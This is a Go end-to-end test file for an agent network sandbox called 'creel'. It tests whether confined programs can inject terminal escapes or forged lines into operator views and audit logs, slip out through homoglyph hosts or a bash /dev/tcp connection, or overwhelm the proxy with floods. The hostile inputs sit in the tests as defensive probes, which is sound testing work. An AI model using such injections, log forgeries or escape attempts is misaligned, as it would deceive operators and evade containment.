package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/creel-run/creel/audit"
)

// TestEscapeLogs: APR: what an agent can put on an operator's screen, and what
// it can keep out of the log.
func TestEscapeLogs(t *testing.T) {
	t.Parallel()
	bothUsers(t, func(t *testing.T) {
		s := newSink(t)
		name := fmt.Sprintf("e2e-logs-%d", os.Getpid())
		b := box{policy: twoHosts(restFull, "ok.test"), name: name, flags: join(s.upstreams("ok.test"), []string{"--trust-ca", caFile(t), "--verbose"})}
		works := func(x *line) string {
			path := "/" + x.mark()
			if got := x.sh("curl -sS https://ok.test" + path); !s.got(path) {
				return got
			}
			return ""
		}
		// pages are all that an operator looks at; clean has looked at some of it.
		pages := func(x *line, l *live) {
			show := creelCmd(x.T, "audit", "show", l.audit)
			jsn := creelCmd(x.T, "audit", "show", "--json", l.audit)
			ls := creelCmd(x.T, "ls")
			posture := creelCmd(x.T, "posture", name)
			for what, text := range map[string]string{"audit show": show.stdout + show.stderr, "audit show --json": jsn.stdout, "ls": ls.stdout, "posture": posture.stdout, "standard error": l.stderr.String()} {
				if i := strings.IndexFunc(text, isRaw); i >= 0 {
					x.Errorf("%s holds a control character: %q", what, text[max(0, i-80):min(len(text), i+40)])
				}
				for _, row := range strings.Split(text, "\n") {
					if strings.HasPrefix(strings.TrimSpace(row), "forged") {
						x.Errorf("%s: a forged line: %q", what, row)
					}
				}
			}
		}
		// escapes, in every place that a program inside can fill.
		fill := func(x *line, text string, all bool) { // text: as printf reads it
			pct := `"$(printf '` + text + `' | od -An -tx1 | tr -d '\n' | sed 's/ /%/g')"`
			for i, at := range everyWay(`curl -sS https://no.test/`+pct, `curl -sS "http://no.test/`+strings.Trim(pct, `"`)+`"`, `curl -sS https://ok.test/`+pct, `curl -sS -A "$(printf 'a`+text+`')" https://no.test/`,
				`curl -sS -X "$(printf 'G`+text+`')" https://ok.test/`, `curl -sS -H "Host: $(printf 'a`+text+`')" https://ok.test/`) {
				if !all && i%4 != 0 {
					continue
				}
				x.way(at.way)
				if got := x.sh(at.what); strings.ContainsFunc(got, isRaw) && !strings.HasPrefix(got, "sink ") { // the sink gives back what it was sent
					x.Errorf("%s: raw in what came back: %q", at.what, got)
				}
			}
			x.sh(`p="$(printf 'c` + text + `forged')"; cp /usr/bin/curl "$p"; "./$p" -sS https://no.test/; rm -f "./$p"`)
			x.sh(`mkdir -p "$(printf 'd` + text + `')" && cp /usr/bin/curl "$(printf 'd` + text + `')/c" && "$(printf 'd` + text + `')/c" -sS https://no.test/`)
			x.sh(`getent hosts "$(printf 'a` + text + `.no.test')"; bash -c 'exec -a "$(printf "x` + strings.ReplaceAll(text, `'`, ``) + `")" /usr/bin/curl -sS https://no.test/'`)
		}
		l := b.start(t)
		l.escape(t, s, "APR-01", works, func(x *line) {
			// Erase, move up, link, clipboard, title and its report, C1 CSI, carriage return, backspace.
			fill(x, `\033[2J\033[1A\033[2K\033]8;;http://x\033\\\033]52;c;eA==\007\033]0;t\007\033[21t\302\233[2J`, true)
			fill(x, `\r\010\010`, false)
			for _, way := range []string{transparent, connect, cleared} {
				x.wire(wire{Way: way, Host: "ok.test", TLS: true, Payload: []byte("GET /\x1b[2J HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
				x.wire(wire{Way: way, Host: "ok.test", TLS: true, Payload: []byte("G\x1b[2JT / HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
			}
			x.wire(wire{Way: connect, Head: "CONNECT a\x1b[2J.test:443 HTTP/1.1\r\nHost: a\r\n\r\n"})
			pages(x, l)
		})
		l.end()
		l = b.start(t)
		l.escape(t, s, "APR-02", works, func(x *line) {
			// Right-to-left override, zero-width space, isolate, soft hyphen, byte order mark.
			fill(x, `\342\200\256\342\200\213\342\201\246x\302\255\357\273\277`, true)
			// A name in other letters is another name: it is ASCII or refused.
			for _, at := range everyWay("curl -sS https://\u043ek.test/MARK", "curl -sS https://ok\u3002test.no.test/MARK", "curl -sS https://xn--k-tlb.test/MARK") {
				x.unseen(at.way, at.what, func(mark string) string { return x.sh(strings.ReplaceAll(at.what, "MARK", mark)) })
			}
			for _, e := range x.events() {
				if strings.ContainsFunc(e.Host, func(r rune) bool { return r > '~' }) {
					x.Errorf("a name that is not ASCII: %+v", e)
				}
			}
			pages(x, l)
		})
		l.end()
		l = b.start(t)
		l.escape(t, s, "APR-12", works, func(x *line) {
			fill(x, `\nforged {"seq":1,"kind":"net.connect","verdict":"allow"}\n\r\nforged\342\200\250forged`, true)
			fill(x, `","verdict":"allow","x":"`, false)
			x.probe("dns", "", "a\\n.no.test")
			seq := uint64(0)
			for i, row := range strings.Split(strings.TrimSuffix(readFile(x.T, x.audit), "\n"), "\n") {
				if strings.ContainsFunc(row, isRaw) || !strings.HasPrefix(row, `{"seq":`+fmt.Sprint(i+1)+",") {
					x.Errorf("line %d: %q", i+1, row)
				}
			}
			for _, e := range x.events() {
				if e.Seq != seq+1 || e.Sandbox != name || e.Verdict == "allow" && e.Host != "ok.test" {
					x.Errorf("a forged event: %+v", e)
				}
				seq = e.Seq
			}
			pages(x, l)
		})
		l.end()
		creelCmd(t, "audit", "verify", l.audit).want(t, 0)
	})
}

// TestEscapeSilence: APR-13: every path of a denial is recorded, and the chain
// shows every gap. (A disk that is full: TestFullDisk.)
func TestEscapeSilence(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, _ := newWorldArena(t)
		a.escape(t, a.s, "APR-13", a.works, func(x *line) {
			// One of each check that denies: connection, name, address, request, framing, TLS, credential places, DNS, packets.
			layers := map[string]bool{}
			for _, at := range attacks(everyWay("curl -sS https://no.test/MARK", "curl -sS https://meta.test/MARK", "curl -sS http://meta.test/MARK"), toHost("10.9.9.9"),
				scripts("curl -sS --http1.1 -H 'Upgrade: websocket' -H 'Connection: Upgrade' https://ok.test/MARK", "curl -sS -H 'Host: no.test' https://ok.test/MARK")) {
				e := x.try(at.way, at.what, func(mark string) string { return at.do(a, mark) })
				layers[e.Detail["layer"]] = true
				if e.Reason == "" || e.Binary == "" || e.Host == "" || e.Seq == 0 {
					x.Errorf("%s: an incomplete event: %+v", at.what, e)
				}
			}
			for _, w := range []wire{{Way: transparent, Host: "ok.test", TLS: true, SNI: "no.test"}, {Way: connect, Host: "ok.test", TLS: true, NoSNI: true}, {Way: cleared, Host: "ok.test", TLS: true, Payload: []byte("BAD\r\n\r\n")}} {
				seq := len(x.events())
				x.wire(w)
				layers[x.denied(seq).Detail["layer"]] = true
			}
			for _, want := range []string{"connection", "address", "http", "tls"} {
				if !layers[want] {
					x.Errorf("no denial of layer %q was tried: %v", want, layers)
				}
			}
			seq := len(x.events())
			x.probe("udp", "192.0.2.5:4433", "x")
			x.event(seq, "a refused packet", func(e event) bool { return e.Kind == audit.Refused })
			// The chain holds while it grows, and a gap or an edit shows.
			creelCmd(x.T, "audit", "verify", x.audit).want(x.T, 0)
			text := readFile(x.T, x.audit)
			rows := strings.SplitAfter(text, "\n")
			for what, forged := range map[string]string{
				"a line is gone":   strings.Join(append(append([]string{}, rows[:3]...), rows[4:]...), ""),
				"a line is edited": strings.Replace(text, `"verdict":"deny"`, `"verdict":"allow"`, 1),
				"lines swapped":    strings.Join(append(append(append([]string{}, rows[:3]...), rows[4], rows[3]), rows[5:]...), ""),
			} {
				path := filepath.Join(x.TempDir(), "forged.jsonl")
				write(x.T, path, forged)
				if r := creelCmd(x.T, "audit", "verify", path); r.code == 0 {
					x.Errorf("%s: it verifies", what)
				}
			}
		})
	})
}

// TestEscapeStarved: DOS-03 and DOS-05: whoever burdens the proxy gets denials,
// not a way out; the sandbox works afterwards, and the log stays bounded.
func TestEscapeStarved(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, z := newWorldArena(t)
		// still: what was closed before is closed while and after it is starved.
		still := func(x *line) {
			for _, at := range attacks(everyWay("curl -sS -m 5 http://no.test/MARK", "curl -sSk -m 5 https://meta.test/MARK"), scripts("bash -c 'exec 3<>/dev/tcp/"+publicAddr+"/22; echo MARK >&3'")) {
				x.unseen(at.way, at.what, func(mark string) string { return at.do(a, mark) })
			}
			if z.wasAsked("no.test") || x.sink.holds("STARVE") {
				x.Error("something got out")
			}
		}
		recovers := func(x *line) string {
			if !eventually(func() bool { return a.works(x) == "" }) {
				return "the sandbox does not recover"
			}
			return ""
		}
		a.escape(t, a.s, "DOS-03", recovers, func(x *line) {
			x.way(transparent)
			x.way(connect)
			flood := func(kind string) {
				c := x.send(order{Argv: []string{probePath(), "probe", "starve", kind}})
				time.Sleep(200 * time.Millisecond)
				x.unseen(absolute, kind, func(mark string) string {
					return x.sh("curl -sS -m 5 -x http://" + proxyAddr + " http://no.test/" + mark + "; curl -sSk -m 5 https://meta.test/" + mark)
				})
				if got := x.receive(c); got.Code != 0 {
					x.Errorf("%s: %s%s", kind, got.Stdout, got.Stderr)
				}
				if wrong := recovers(x); wrong != "" {
					x.Fatalf("after %s: %s", kind, wrong)
				}
			}
			for _, kind := range []string{"slowloris", "connects", "heads", "hellos", "silent", "gzip"} {
				flood(kind)
			}
			if x.sink.connections() > 0 && x.sink.holds("STARVE") {
				x.Error("a flood arrived")
			}
			still(x)
		})
		a.fresh(t)
		a.escape(t, a.s, "DOS-05", recovers, func(x *line) {
			x.way(transparent)
			before, _ := os.Stat(x.audit)
			if got := x.probe("deny", "20000"); got.Code != 0 {
				x.Errorf("%s%s", got.Stdout, got.Stderr)
			}
			x.sh(`for i in $(seq 300); do getent hosts "q$i.$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \n').no.test" >/dev/null & done; wait`)
			still(x)
			after, err := os.Stat(x.audit)
			if err != nil {
				x.Fatal(err)
			}
			if n := after.Size() - before.Size(); n > 8<<20 {
				x.Errorf("the log grew by %d bytes", n)
			}
			if n := len(x.events()); n > 4000 {
				x.Errorf("%d events", n)
			}
			x.event(0, "how many were not recorded", func(e event) bool { return e.Detail[audit.NotRecorded] != "" })
		})
	})
}
